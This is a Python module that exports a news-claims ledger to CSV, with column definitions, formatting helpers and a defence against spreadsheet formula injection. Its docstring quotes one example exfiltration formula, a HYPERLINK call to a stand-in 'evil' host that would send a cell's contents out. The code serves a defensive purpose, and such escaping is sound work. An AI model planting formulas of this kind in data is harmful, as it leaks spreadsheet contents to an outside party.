"""The ledger as CSV for spreadsheets: one flat row per claim, or one row per story.

Columns are fixed (:data:`CLAIM_COLUMNS`, :data:`STORY_COLUMNS`) and the first row names them.
Empty cells are absent values; booleans are ``true``/``false``; dates keep the precision the
text gave (``2024-10`` for "this month"); numbers are plain (``1500``, not ``1,500``) so that a
spreadsheet reads them as numbers. The writer is the :mod:`csv` module's default dialect (RFC 4180
quoting, ``\\r\\n`` line ends): open the output file with ``newline=""``.

**Formula injection.** Analysts open these files in spreadsheets, and most cells hold text taken
from untrusted articles. A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return, which some spreadsheets skip before reading such a character) is run as a
formula by Excel, LibreOffice and Google Sheets: an article could plant
``=HYPERLINK("http://evil/?"&A1, "click")`` or a DDE command. Such a cell is written with a
leading apostrophe, which every spreadsheet reads as "this is text" and does not display. This
follows the OWASP advice on CSV injection. The apostrophe stays in the file: a program reading
the CSV sees ``'=...``. Use the JSONL export for lossless machine reading.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TYPE_CHECKING, TextIO

from watchfloor.export.ledger_json import Export, check_export, warn_if_stale
from watchfloor.records import Claim, Figure, Quantity, Story, When

if TYPE_CHECKING:  # the ledger (SQLAlchemy) loads only when an export runs
    from watchfloor.ledger import Ledger

__all__ = [
    "CLAIM_COLUMNS",
    "STORY_COLUMNS",
    "Cell",
    "claim_row",
    "figure_text",
    "number_text",
    "quantity_text",
    "safe_cell",
    "stances_text",
    "story_row",
    "when_text",
    "write_csv",
]

Cell = str | int | float | bool | None

CLAIM_COLUMNS = (
    "document",
    "claim",
    "source",
    "source_kind",
    "source_country",
    "source_role",
    "cue",
    "stance",
    "hedged",
    "event_type",
    "event_mode",
    "actor",
    "target",
    "quantity_value",
    "quantity_max",
    "quantity_unit",
    "when",
    "modality",
    "said",
    "story",
    "relation",
    "content",
    "confidence",
    "extractor",
)
"""The columns of a claims CSV. ``source`` is the claimant's canonical name, ``cue`` the cue's
lemma, ``content`` the text of what is claimed; ``when`` is the event's date, ``said`` the date of
the statement."""

STORY_COLUMNS = (
    "story",
    "key",
    "title",
    "event_type",
    "mode",
    "actor",
    "target",
    "credibility",
    "credibility_meaning",
    "credibility_reasons",
    "first_seen",
    "last_seen",
    "claims",
    "documents",
    "origins",
    "figures",
    "stances",
)
"""The columns of a stories CSV. ``credibility_reasons`` are joined with `` | `` (a reason may
itself hold a semicolon); ``figures`` lists each claimant's number with its date, as
``National Intelligence Service: 1,500 special operation forces (2024-10-18, confirm); ...``;
``stances`` counts the claims by stance (``assert 5; deny 7``)."""

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(text: str) -> str:
    """``text`` with a leading apostrophe if a spreadsheet would run it as a formula (see the
    module docstring)."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def number_text(value: float, *, grouped: bool = False) -> str:
    """A number as written for people: ``1500`` (or ``1,500`` when ``grouped``), ``2.5``."""
    value = float(value)
    if value.is_integer():
        return f"{int(value):,}" if grouped else str(int(value))
    return f"{value:,}" if grouped else repr(value)


def when_text(when: When | None) -> str | None:
    """A date at the precision the text gave: ``2024-10-21``, ``2024-10`` or ``2024``."""
    if when is None:
        return None
    iso = when.date.isoformat()
    return {"day": iso, "month": iso[:7], "year": iso[:4]}[when.precision]


def quantity_text(quantity: Quantity) -> str:
    """``1,500 troops``, ``up to 12,000 troops``, ``1,500 to 12,000 troops``, ``several troops``."""
    value, most = quantity.value, quantity.max
    if value is not None and most is not None:
        number = f"{number_text(value, grouped=True)} to {number_text(most, grouped=True)}"
    elif value is not None:
        number = number_text(value, grouped=True)
    elif most is not None:
        number = f"up to {number_text(most, grouped=True)}"
    else:
        number = "an unstated number of"
    return f"{number} {quantity.unit}" if quantity.unit else number


def figure_text(figure: Figure) -> str:
    """One figure for people: ``Volodymyr Zelensky: 10,000 soldiers (2024-10-21, allege,
    planned)``; the modality is named only when it is not ``actual``."""
    notes = [figure.said.isoformat(), figure.stance]
    if figure.modality != "actual":
        notes.append(figure.modality)
    return f"{figure.claimant}: {quantity_text(figure.quantity)} ({', '.join(notes)})"


def stances_text(story: Story) -> str:
    """The stance counts of a story: ``assert 5; confirm 3; deny 7``."""
    return "; ".join(f"{stance} {count}" for stance, count in story.stance_counts)


def claim_row(claim: Claim, story: int | None, relation: str | None) -> tuple[Cell, ...]:
    """The cells of one claim, in the order of :data:`CLAIM_COLUMNS`."""
    actor = claim.source.actor if claim.source else None
    event = claim.event
    quantity = event.quantity if event else None
    return (
        claim.document_id,
        claim.id,
        actor.name if actor else None,
        actor.kind if actor else None,
        actor.country if actor else None,
        actor.role if actor else None,
        claim.cue.lemma,
        claim.stance,
        claim.hedged,
        event.type if event else None,
        event.mode if event else None,
        event.actor if event else None,
        event.target if event else None,
        quantity.value if quantity else None,
        quantity.max if quantity else None,
        quantity.unit if quantity else None,
        when_text(event.when) if event else None,
        event.modality if event else None,
        when_text(claim.said),
        story,
        relation,
        claim.content.text,
        claim.confidence,
        claim.extractor,
    )


def story_row(story: Story) -> tuple[Cell, ...]:
    """The cells of one story, in the order of :data:`STORY_COLUMNS`."""
    return (
        story.id,
        story.key,
        story.title,
        story.event_type,
        story.mode,
        story.actor,
        story.target,
        story.credibility.value,
        story.credibility.meaning,
        " | ".join(story.credibility.reasons),
        story.first_seen.isoformat(),
        story.last_seen.isoformat(),
        story.claim_count,
        story.documents,
        story.origins,
        "; ".join(figure_text(f) for f in story.figures),
        stances_text(story),
    )


def _cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        # Numbers are ours, not the article's: a negative one is a number, not a formula.
        return number_text(value)
    if isinstance(value, int):
        return str(value)
    return safe_cell(value)


def _write_rows(out: TextIO, header: tuple[str, ...], rows: Iterable[tuple[Cell, ...]]) -> int:
    writer = csv.writer(out)
    writer.writerow(header)
    count = 0
    for row in rows:
        writer.writerow([_cell(value) for value in row])
        count += 1
    return count


def write_csv(ledger: Ledger, out: TextIO, *, what: Export) -> int:
    """Write every claim, or every story, of ``ledger`` to ``out`` as CSV with a header row;
    return the number of rows written, the header not counted. Claims stream one document at a
    time. Raises :class:`~watchfloor.errors.ConfigError` for an unknown ``what``."""
    what = check_export(what)
    if what == "claims":
        rows = (claim_row(c, story, relation) for c, story, relation in ledger.iter_claims())
        return _write_rows(out, CLAIM_COLUMNS, rows)
    warn_if_stale(ledger)
    return _write_rows(out, STORY_COLUMNS, (story_row(s) for s in ledger.stories(limit=None)))
